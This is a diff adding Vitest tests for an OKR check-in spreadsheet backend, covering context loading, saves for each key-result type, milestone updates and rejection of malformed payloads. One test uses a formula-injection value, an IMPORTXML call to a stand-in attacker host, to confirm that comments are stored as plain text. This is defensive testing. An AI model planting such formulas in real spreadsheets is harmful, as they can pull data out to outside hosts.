@@ -1,0 +1,343 @@
+/**
+ * The check-in server functions in the built bundle, run by the Apps Script emulator: what the
+ * sidebar reads, what a check-in writes for each KR type, and how untrusted payloads are refused.
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { CheckInContext, SaveCheckInResult } from '../../src/shared/checkIn';
+import {
+  ANA,
+  BO,
+  buildBundle,
+  checkInEmulator,
+  checkInPayload,
+  checkInRows,
+  keyResultRow,
+  NOW,
+  plain,
+  sheetValues,
+  workbookSnapshot,
+} from './checkInWorkbook';
+
+beforeAll(buildBundle);
+
+/** Paths of values google.script.run would refuse or drop: Dates, functions, undefined, class instances. */
+function nonJsonValues(value: unknown, path: string): string[] {
+  if (value === null || ['string', 'boolean'].includes(typeof value)) return [];
+  if (typeof value === 'number') return Number.isFinite(value) ? [] : [path];
+  if (Array.isArray(value))
+    return value.flatMap((item, index) => nonJsonValues(item, `${path}[${index}]`));
+  if (typeof value === 'object' && Object.prototype.toString.call(value) === '[object Object]') {
+    return Object.entries(value).flatMap(([key, item]) => nonJsonValues(item, `${path}.${key}`));
+  }
+  return [path];
+}
+
+const save = (emulator: ReturnType<typeof checkInEmulator>, payload: unknown): SaveCheckInResult =>
+  plain(emulator.call('saveCheckIn', payload) as SaveCheckInResult);
+
+describe('getCheckInContext', () => {
+  it("lists the active user's key results first, then the others grouped by objective, leaving out past cycles", () => {
+    const context = plain(
+      checkInEmulator({ user: BO }).call('getCheckInContext') as CheckInContext,
+    );
+    expect(context.userEmail).toBe(BO);
+    expect(context.keyResults.map((keyResult) => keyResult.id)).toEqual([
+      'KR-TASK',
+      'KR-BIN',
+      'KR-MIN',
+      'KR-MAX',
+      'KR-BASE',
+      'KR-NONE',
+      'KR-INC',
+      'KR-DEC',
+      'KR-PCT',
+      'KR-MS',
+    ]);
+    expect(context.objectives.map((objective) => objective.id)).toEqual(['O1', 'O2']);
+  });
+
+  it('gives each key result its figures, plan, last check-in and checklist', () => {
+    const context = plain(checkInEmulator().call('getCheckInContext') as CheckInContext);
+    const increase = context.keyResults.find((keyResult) => keyResult.id === 'KR-INC')!;
+    expect(increase).toMatchObject({
+      objectiveTitle: 'Delight new teams',
+      unit: 'teams',
+      start: 0,
+      target: 100,
+      current: 20,
+      progress: 0.2,
+      status: 'Off track',
+      lastCheckInText: 'update 2',
+      previousPlans: 'plan 2',
+      ownedByUser: true,
+    });
+    expect(increase.planned).toBeCloseTo(46 / 91);
+    const milestone = context.keyResults.find((keyResult) => keyResult.id === 'KR-MS')!;
+    expect(milestone.inputKind).toBe('milestones');
+    expect(milestone.milestones.map((item) => [item.row, item.milestone, item.done])).toEqual([
+      [2, 'Design review', true],
+      [3, 'Beta with five teams', false],
+      [5, 'General availability', false],
+    ]);
+    expect(milestone.progress).toBe(0.25);
+  });
+
+  it('returns only JSON-safe values (dates as ISO text), as google.script.run requires', () => {
+    const raw = checkInEmulator().call('getCheckInContext');
+    expect(nonJsonValues(raw, 'context')).toEqual([]);
+  });
+
+  it('reads each table once, whatever its size', () => {
+    const emulator = checkInEmulator({ checkIns: 2000 });
+    emulator.call('getCheckInContext');
+    expect(emulator.calls.count('Range.getValues')).toBe(5);
+  });
+});
+
+describe('saveCheckIn for every key result type', () => {
+  const cases: { id: string; value: unknown; stored: unknown; milestones?: unknown }[] = [
+    { id: 'KR-INC', value: 42, stored: 42 },
+    { id: 'KR-DEC', value: 650, stored: 650 },
+    { id: 'KR-PCT', value: 0.45, stored: 0.45 },
+    { id: 'KR-TASK', value: 7, stored: 7 },
+    { id: 'KR-BIN', value: true, stored: true },
+    { id: 'KR-MIN', value: 99.5, stored: 99.5 },
+    { id: 'KR-MAX', value: 6, stored: 6 },
+    { id: 'KR-BASE', value: 130, stored: 130 },
+    { id: 'KR-NONE', value: 12, stored: 12 },
+    {
+      id: 'KR-MS',
+      value: null,
+      // Design review (1) and General availability (2) of a total weight 4: 3/4 of Target 4.
+      stored: 3,
+      milestones: [
+        { row: 3, milestone: 'Beta with five teams', done: false },
+        { row: 5, milestone: 'General availability', done: true },
+      ],
+    },
+  ];
+
+  it.each(cases)('saves a check-in for $id', ({ id, value, stored, milestones }) => {
+    const emulator = checkInEmulator();
+    const before = checkInRows(emulator).length;
+    const result = save(
+      emulator,
+      checkInPayload({ keyResultId: id, value, milestones: milestones ?? null }),
+    );
+    expect(result.ok, JSON.stringify(result)).toBe(true);
+    const rows = checkInRows(emulator);
+    expect(rows).toHaveLength(before + 1);
+    expect(rows.at(-1)).toEqual({
+      Timestamp: new Date(NOW).toISOString(),
+      'Key Result ID': id,
+      Value: stored,
+      Confidence: 7,
+      Progress: 'Onboarding v2 shipped',
+      Plans: 'Start the pricing test',
+      Problems: 'Waiting on legal',
+      Learnings: 'Teams love templates',
+      Author: ANA,
+    });
+    expect(keyResultRow(emulator, id)).toMatchObject({
+      Current: stored,
+      Confidence: 7,
+      'Last Check-in': new Date(NOW).toISOString(),
+    });
+    if (result.ok) {
+      expect(result.keyResult.id).toBe(id);
+      expect(result.keyResult.lastCheckInText).toBe('Onboarding v2 shipped');
+      expect(result.savedAt).toBe(new Date(NOW).toISOString());
+    }
+  });
+
+  it('ticks milestones with the day they were done and unticks them without touching other rows', () => {
+    const emulator = checkInEmulator();
+    const result = save(
+      emulator,
+      checkInPayload({
+        keyResultId: 'KR-MS',
+        value: null,
+        milestones: [
+          { row: 2, milestone: 'Design review', done: false },
+          { row: 5, milestone: 'General availability', done: true },
+        ],
+      }),
+    );
+    expect(result.ok).toBe(true);
+    expect(sheetValues(emulator, 'Milestones')).toEqual([
+      ['Key Result ID', 'Milestone', 'Weight', 'Done', 'Done Date'],
+      ['KR-MS', 'Design review', 1, false, ''],
+      ['KR-MS', 'Beta with five teams', 1, false, ''],
+      ['KR-OTHER', 'Not ours', 1, false, ''],
+      ['KR-MS', 'General availability', 2, true, new Date(NOW).toISOString()],
+    ]);
+    expect(result.ok && result.keyResult.progress).toBe(0.5);
+  });
+
+  it('returns the refreshed key result with its new progress and history', () => {
+    const raw = checkInEmulator().call('saveCheckIn', checkInPayload({ value: 60 }));
+    expect(nonJsonValues(raw, 'result')).toEqual([]);
+    const result = plain(raw as SaveCheckInResult);
+    expect(result.ok && result.keyResult).toMatchObject({
+      current: 60,
+      progress: 0.6,
+      confidence: 7,
+    });
+    expect(result.ok && result.keyResult.history.at(-1)).toEqual({
+      timestamp: new Date(NOW).toISOString(),
+      value: 60,
+    });
+  });
+
+  it('stores a formula-looking comment as text, never as a formula', () => {
+    const emulator = checkInEmulator();
+    const formula = '=IMPORTXML("https://evil.example", "//a")';
+    const result = save(
+      emulator,
+      checkInPayload({
+        progress: formula,
+        plans: '+1 more',
+        problems: '-2 left',
+        learnings: '@team',
+      }),
+    );
+    expect(result.ok).toBe(true);
+    const last = checkInRows(emulator).at(-1)!;
+    expect([last.Progress, last.Plans, last.Problems, last.Learnings]).toEqual([
+      formula,
+      '+1 more',
+      '-2 left',
+      '@team',
+    ]);
+    const formulas = emulator.uncounted(() =>
+      emulator.spreadsheet.getSheetByName('Check-ins')!.getDataRange().getFormulas(),
+    );
+    expect(formulas.flat().filter(Boolean)).toEqual([]);
+  });
+
+  it('records the signed-in user as the author, not anything the page sends', () => {
+    const emulator = checkInEmulator({ user: BO });
+    expect(save(emulator, checkInPayload({ keyResultId: 'KR-TASK', value: 3 })).ok).toBe(true);
+    expect(checkInRows(emulator).at(-1)!.Author).toBe(BO);
+  });
+});
+
+describe('saveCheckIn refuses bad payloads and writes nothing', () => {
+  const refusals: {
+    name: string;
+    payload: () => unknown;
+    field: string | null;
+    message: RegExp;
+  }[] = [
+    {
+      name: 'an unknown key result',
+      payload: () => checkInPayload({ keyResultId: 'KR-NOPE' }),
+      field: 'keyResultId',
+      message: /No key result has the ID "KR-NOPE"/,
+    },
+    {
+      name: 'text where a number is needed',
+      payload: () => checkInPayload({ value: 'forty-two' }),
+      field: 'value',
+      message: /Value is text/,
+    },
+    {
+      name: 'a number for a yes/no key result',
+      payload: () => checkInPayload({ keyResultId: 'KR-BIN', value: 1 }),
+      field: 'value',
+      message: /yes\/no key result/,
+    },
+    {
+      name: 'a percentage above 100%',
+      payload: () => checkInPayload({ keyResultId: 'KR-PCT', value: 45 }),
+      field: 'value',
+      message: /from 0% to 100%/,
+    },
+    {
+      name: 'confidence 11',
+      payload: () => checkInPayload({ confidence: 11 }),
+      field: 'confidence',
+      message: /Confidence is 11/,
+    },
+    {
+      name: 'a 100 kB comment',
+      payload: () => checkInPayload({ learnings: 'x'.repeat(100_000) }),
+      field: 'learnings',
+      message: /Learnings is 100,000 characters long/,
+    },
+    {
+      name: 'a Date object',
+      payload: () => checkInPayload({ value: new Date('2026-11-16T00:00:00Z') }),
+      field: 'value',
+      message: /date object/,
+    },
+    {
+      name: 'a missing field',
+      payload: () => {
+        const payload = checkInPayload();
+        delete payload.plans;
+        return payload;
+      },
+      field: 'plans',
+      message: /Plans is missing/,
+    },
+    {
+      name: 'a milestone that moved',
+      payload: () =>
+        checkInPayload({
+          keyResultId: 'KR-MS',
+          value: null,
+          milestones: [{ row: 4, milestone: 'General availability', done: true }],
+        }),
+      field: 'milestones',
+      message: /no longer in Milestones row 4/,
+    },
+    {
+      name: 'a milestone key result without ticks',
+      payload: () => checkInPayload({ keyResultId: 'KR-MS', value: 3 }),
+      field: 'milestones',
+      message: /ticking its milestones/,
+    },
+  ];
+
+  it.each(refusals)('refuses $name, naming the field', ({ payload, field, message }) => {
+    const emulator = checkInEmulator();
+    const before = workbookSnapshot(emulator);
+    const result = save(emulator, payload());
+    expect(result.ok).toBe(false);
+    if (!result.ok) {
+      expect(result.errors.map((error) => error.field)).toContain(field);
+      expect(result.errors.map((error) => error.message).join(' ')).toMatch(message);
+    }
+    expect(workbookSnapshot(emulator)).toEqual(before);
+  });
+
+  it.each([null, undefined, 'KR-INC', 42, true, [checkInPayload()]])(
+    'refuses the non-object payload %j',
+    (payload) => {
+      const emulator = checkInEmulator();
+      const before = workbookSnapshot(emulator);
+      const result = save(emulator, payload);
+      expect(result).toEqual({
+        ok: false,
+        errors: [{ field: null, message: expect.stringMatching(/not a form/) }],
+      });
+      expect(workbookSnapshot(emulator)).toEqual(before);
+    },
+  );
+
+  it('refuses a payload with every field missing, naming each one', () => {
+    const result = save(checkInEmulator(), {});
+    expect(!result.ok && result.errors.map((error) => error.field)).toEqual(
+      expect.arrayContaining([
+        'keyResultId',
+        'value',
+        'confidence',
+        'progress',
+        'plans',
+        'problems',
+        'learnings',
+      ]),
+    );
+  });
+});
